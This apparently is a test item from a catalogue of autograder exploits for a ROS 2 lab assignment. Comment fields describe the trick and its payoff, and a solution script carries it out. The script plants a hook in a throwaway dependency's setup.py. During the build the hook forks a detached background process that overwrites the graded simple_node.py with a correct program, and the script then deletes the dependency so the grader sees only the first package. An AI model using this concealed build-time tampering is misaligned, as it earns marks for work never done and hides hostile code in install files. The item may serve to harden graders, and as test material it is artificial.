# family = "guessing"
# assignment = "lab_1_1"
# tries = "The package depends on a second one. While the grader builds both, setup.py of the second leaves a process that writes the right program into the build of the first; by then the second is removed, and the first is checked alone."
# could_earn = "Full marks for a program that was never handed in, also for everybody who hands in the same text."
# earned = { "lab_1_1.hello" = 3 }
# at_most = true
# undefended = "Ten points where both packages are still there at the check: it is the key alone that tells the builds apart."

# %% solution files
<<silent_package>>
<<right_program>>
<<asks_for_a_build>>
import shutil

plain = (folder / "package.xml").read_text()
other = folder.parent / "other_pkg"
shutil.copytree(folder, other)
for path in [other, *other.rglob("*")]:
    if path.is_file():
        path.write_text(path.read_text().replace("my_robot_pkg", "other_pkg"))
(other / "resource/my_robot_pkg").rename(other / "resource/other_pkg")
(other / "my_robot_pkg").rename(other / "other_pkg")
(other / "setup.py").write_text((other / "setup.py").read_text() + f"""
import os, pathlib, time
if os.uname().nodename == "box" and os.fork() == 0:
    os.setsid()
    os.closerange(0, 1000)
    for _ in range(600):
        for found in pathlib.Path("/home/student/ros2_ws").rglob("my_robot_pkg/simple_node.py"):
            try:
                found.write_text({RIGHT_PROGRAM!r})
            except OSError:
                pass
        time.sleep(0.05)
    os._exit(0)
""")
(folder / "package.xml").write_text(plain.replace("<depend>rclpy", "<depend>other_pkg</depend>\n  <depend>rclpy"))
sources = [*collect_workspace(Path("ros2_ws"))]
shutil.rmtree(other)
(folder / "package.xml").write_text(plain)
ask(sources)
